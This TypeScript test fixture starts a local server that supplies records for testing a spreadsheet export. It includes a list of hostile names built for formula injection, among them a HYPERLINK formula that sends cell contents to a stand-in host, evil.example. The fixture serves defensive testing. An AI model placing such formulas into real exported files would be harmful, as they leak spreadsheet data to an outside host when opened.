import { createServer } from 'node:http';
import { listen } from '../../local/emulators/listen.ts';

/** Names as somebody might type them who wants a spreadsheet to do something. */
export const hostileNames = [
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  '+49 30 1234',
  '-2+3',
  '@SUM(1+1)',
  'Smith, John "Jo"',
  'two\r\nlines',
  'ünï ☃ 🎈 日本語',
  "'=quoted already",
];

/** Ids that are no better, in the order of the names. */
export const hostileId = (index: number): string => `${index % 2 === 0 ? '=' : '\t'}${index}`;

/** More than are exported within a request. */
export const manyRecords = 21_000;

export interface ExportSource {
  readonly url: string;
  /** What it answers under /gated waits until `open` is called. */
  open(): void;
  close(): Promise<void>;
}

/** A source with hostile names, a stream of a few, one of many, and one that makes its run wait. */
export async function startExportSource(): Promise<ExportSource> {
  const gate = Promise.withResolvers<void>();
  const answers: Record<string, () => unknown[] | Promise<unknown[]>> = {
    '/hostile': () => hostileNames.map((name, index) => ({ id: hostileId(index), name })),
    '/few': () => [{ id: 1, name: 'One' }, { id: 2, name: null }, { name: 'nobody' }],
    '/many': () => Array.from({ length: manyRecords }, (_, id) => ({ id: `m${id}`, name: `Number ${id}` })),
    '/gated': () => gate.promise.then(() => [{ id: 1 }]),
  };
  const server = await listen(
    createServer(async (request, response) => {
      const path = request.url?.split('?')[0] ?? '';
      response.writeHead(200, { 'content-type': 'application/json' });
      response.end(JSON.stringify({ data: await (answers[path]?.() ?? []) }));
    }),
  );
  return { url: server.url, open: () => gate.resolve(), close: server.close };
}
